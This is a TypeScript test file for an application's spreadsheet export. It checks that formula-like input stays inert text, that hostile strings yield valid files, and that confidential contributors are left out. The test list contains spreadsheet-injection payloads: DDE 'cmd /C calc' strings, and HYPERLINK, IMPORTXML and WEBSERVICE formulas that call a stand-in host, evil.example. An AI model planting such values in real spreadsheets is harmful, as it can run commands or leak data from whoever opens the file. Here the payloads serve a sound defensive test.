import { execFile } from "node:child_process";
import { existsSync } from "node:fs";
import { mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { promisify } from "node:util";
import { strFromU8, unzipSync } from "fflate";
import { JSDOM } from "jsdom";
import { afterAll, beforeAll, expect, test } from "vitest";
import { writeXlsx } from "../../../server/registers/xlsx";
import type { DocumentId } from "../../../shared/ids";
import type { FollowUpAnswer, InputAnswer } from "../../../shared/register/answers";
import { until } from "../../help/live";
import type { Person } from "../../help/person";
import { startServer, type TestServer } from "../../help/server";
import { beginStudy, type Study } from "../../help/study";
import { mistakesInWord as mistakesInOffice } from "../../help/word-schema";
import { writeBlock } from "./minutes";

/** What spreadsheets, ours and others', have been known to take for a formula, and what hostile people type. */
const formulaStarts = [
  "=1+1",
  "+1+1",
  "-1+1",
  "@SUM(A1:A2)",
  '=HYPERLINK("http://evil.example","Click")',
  "=cmd|' /C calc'!A0",
  '=DDE("cmd";"/C calc";"x")',
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  " =1+1",
  "\u00a0=1+1",
  "\u3000=1+1",
  "=1+1",
  "+1+1",
  "-1+1",
  "@SUM(A1)",
  "−1+1",
  "%0A=1+1",
  "|calc",
  "=\u202e1+1",
  "\u200b=1+1",
  "\ufeff=1+1",
  "\u0000=1+1",
  '=IMPORTXML("http://evil.example","//a")',
  '=WEBSERVICE("http://evil.example")',
  "--1",
  "+-=1",
  "=+1",
  "@@1",
  "'=1+1",
];
const hostile = ["<b>&amp;</b>", "]]>\"'", "\ud800", "\u202egnp.exe", "a".repeat(40_000), "日本語 😀"];

type Sheet = { cells: Map<string, { text: string; type: string | null; style: string }>; xml: string };

function readSheet(bytes: Uint8Array): Sheet & { styles: Element[]; workbook: string } {
  const files = Object.fromEntries(
    Object.entries(unzipSync(bytes)).map(([path, file]) => [path, strFromU8(file)]),
  );
  const { DOMParser } = new JSDOM().window;
  const parse = (path: string) => {
    const doc = new DOMParser().parseFromString(files[path]!, "application/xml");
    expect(doc.querySelector("parsererror")?.textContent ?? "").toBe("");
    return doc;
  };
  for (const path of Object.keys(files)) parse(path);
  const xml = files["xl/worksheets/sheet1.xml"]!;
  const cells = new Map(
    [...parse("xl/worksheets/sheet1.xml").querySelectorAll("c")].map((cell) => [
      cell.getAttribute("r")!,
      { text: cell.textContent ?? "", type: cell.getAttribute("t"), style: cell.getAttribute("s")! },
    ]),
  );
  return {
    cells,
    xml,
    styles: [...parse("xl/styles.xml").querySelectorAll("cellXfs > xf")],
    workbook: files["xl/workbook.xml"]!,
  };
}

const sheetOf = (texts: readonly string[]) =>
  writeXlsx({
    name: "Masukan",
    columns: [
      { title: "Masukan", width: 40 },
      { title: "Tenggat", width: 12 },
    ],
    rows: texts.map((text) => [text, { day: "2023-08-31" }]),
  });

test("thirty formula starts are texts that stay texts, and no cell is a formula", () => {
  const { cells, xml, styles } = readSheet(sheetOf(formulaStarts));
  expect(xml).not.toMatch(/<f[ >]/);
  expect(formulaStarts.length).toBeGreaterThanOrEqual(30);
  for (const [row, start] of formulaStarts.entries()) {
    const cell = cells.get(`A${row + 2}`)!;
    expect(cell.type, start).toBe("inlineStr");
    const isMarked = styles[Number(cell.style)]!.getAttribute("quotePrefix") === "1";
    expect(isMarked, JSON.stringify(start)).toBe(!start.startsWith("'"));
  }
});

test("hostile texts make no broken file, and what is too long for a cell is cut with a sign", () => {
  const { cells } = readSheet(sheetOf(hostile));
  expect(cells.get("A2")!.text).toBe("<b>&amp;</b>");
  expect(cells.get("A4")?.text ?? "").toBe("");
  expect(cells.get("A5")!.text).toBe("gnp.exe");
  expect(cells.get("A6")!.text).toHaveLength(32_767);
  expect(cells.get("A6")!.text).toMatch(/…$/);
  expect(cells.get("A7")!.text).toBe("日本語 😀");
});

test("the sheet is filtered, its first row stays in view, and days are days", () => {
  const { cells, xml, workbook } = readSheet(sheetOf(["x", "y"]));
  expect(xml).toContain('<pane ySplit="1" topLeftCell="A2" activePane="bottomLeft" state="frozen"/>');
  expect(xml).toContain('<autoFilter ref="A1:B3"/>');
  expect(workbook).toContain("'Masukan'!$A$1:$B$3");
  // 2023-08-31 as Excel counts.
  expect(cells.get("B2")).toMatchObject({ text: "45169", type: null });
});

test("Microsoft's own check finds nothing wrong, and each row is as high as its text needs", async () => {
  const folder = await mkdtemp(join(tmpdir(), "lokakarya-xlsx-"));
  try {
    const bytes = sheetOf([...formulaStarts, ...hostile, "", "one\ntwo\nthree", "漢字".repeat(40)]);
    await writeFile(join(folder, "sheet.xlsx"), bytes);
    expect(await mistakesInOffice(join(folder, "sheet.xlsx"))).toEqual([]);
    const heights = [...readSheet(bytes).xml.matchAll(/<row r="\d+" ht="(\d+)">/g)].map((match) =>
      Number(match[1]),
    );
    expect(heights.slice(-3)).toEqual([15, 45, 75]);
    expect(Math.max(...heights)).toBe(409);
  } finally {
    await rm(folder, { recursive: true, force: true });
  }
});

/** With its spreadsheet, which Debian packs apart. */
const hasCalc = existsSync("/usr/bin/soffice") && existsSync("/usr/lib/libreoffice/program/libsclo.so");

test.runIf(hasCalc)(
  "LibreOffice opens it with every text as it was typed, computing nothing",
  async () => {
    const folder = await mkdtemp(join(tmpdir(), "lokakarya-xlsx-"));
    try {
      await writeFile(join(folder, "sheet.xlsx"), sheetOf([...formulaStarts.slice(0, 7), "日本語", "<b>"]));
      const profile = `-env:UserInstallation=file://${folder}/profile`;
      const filter = "csv:Text - txt - csv (StarCalc):9,34,76,1,,0,false,true,false,true";
      await promisify(execFile)("soffice", [
        profile,
        "--headless",
        "--convert-to",
        filter,
        "--outdir",
        folder,
        join(folder, "sheet.xlsx"),
      ]);
      const csv = await readFile(join(folder, "sheet.csv"), "utf8");
      const rows = csv
        .trim()
        .split("\n")
        .map((line) => line.split("\t"));
      expect(rows[0]).toEqual(["Masukan", "Tenggat"]);
      // With formulas shown, a formula would stand without quotes as `=…`; a text is what was typed.
      expect(rows[1]).toEqual(["=1+1", "2023-08-31"]);
      expect(rows[4]![0]).toBe("@SUM(A1:A2)");
      expect(rows[8]![0]).toBe("日本語");
      expect(rows[9]![0]).toBe("<b>");
    } finally {
      await rm(folder, { recursive: true, force: true });
    }
  },
  120_000,
);

let server: TestServer;
let study: Study;
let commenter: Person;
beforeAll(async () => {
  server = await startServer();
  study = await beginStudy(server);
  commenter = await study.join("commenter");
  const minutes = await study.document("minutes-of-workshop");
  await server.rooms.write(minutes as DocumentId, {
    by: null,
    change: (doc) => {
      writeBlock(doc, "input", { id: "a", by: "Asosiasi A" }, "=SUM(A1)");
      writeBlock(doc, "input", { id: "b", by: "Perusahaan C", visibility: "not_for_attribution" }, "Slow.");
      writeBlock(doc, "input", { id: "c", by: "Perusahaan D", visibility: "confidential" }, "Trade secret.");
      writeBlock(doc, "decision", { id: "d" }, "One survey.");
      writeBlock(doc, "followUp", { id: "e", owner: "ASDIPI", due: "2023-08-31" }, "Coordinate.");
      writeBlock(doc, "followUp", { id: "f", owner: "ASDIPI" }, "Facilitate.");
    },
  });
  await until(async () => (await rows("follow-ups")).length === 2);
});
afterAll(() => server.close());

const at = (path: string) => `/api/projects/${study.project}/${path}`;
const rows = async (path: string) => (await study.chief.get<(InputAnswer | FollowUpAnswer)[]>(at(path))).body;

async function download(path: string, as: Person) {
  const answer = await fetch(server.url + at(path), {
    headers: { cookie: as.cookieHeader(), "accept-language": "id" },
  });
  expect(answer.status).toBe(200);
  return { headers: answer.headers, ...readSheet(new Uint8Array(await answer.arrayBuffer())) };
}

test("the secretariat's sheet has neither the confidential nor the giver who is not to be named", async () => {
  const { cells, xml, headers } = await download("inputs?format=xlsx&language=en", study.chief);
  expect(headers.get("content-type")).toContain("spreadsheetml");
  expect(headers.get("content-disposition")).toContain("Inputs (en).xlsx");
  expect(xml).toContain("Asosiasi A");
  expect(xml).toContain("Slow.");
  for (const never of ["Perusahaan C", "Perusahaan D", "Trade secret."]) expect(xml).not.toContain(never);
  expect(cells.get("A2")!.text).toBe("IN-0001");
  expect([...cells.values()].filter(({ text }) => text === "=SUM(A1)")).toHaveLength(1);
});

test("the sheet speaks the reader's language, and says what is missing", async () => {
  const { cells, xml } = await download("follow-ups?format=xlsx", commenter);
  expect(cells.get("B1")!.text).toBe("Uraian");
  expect(xml).toContain("tenggat");
  expect((await download("decisions?format=xlsx&language=ja", commenter)).xml).toContain("決定事項");
});

test("sheets are rationed", async () => {
  const codes = [];
  for (let tries = 0; tries < 12; tries++)
    codes.push((await study.chief.get(at("inputs?format=xlsx"))).status);
  expect(codes.at(-1)).toBe(429);
});
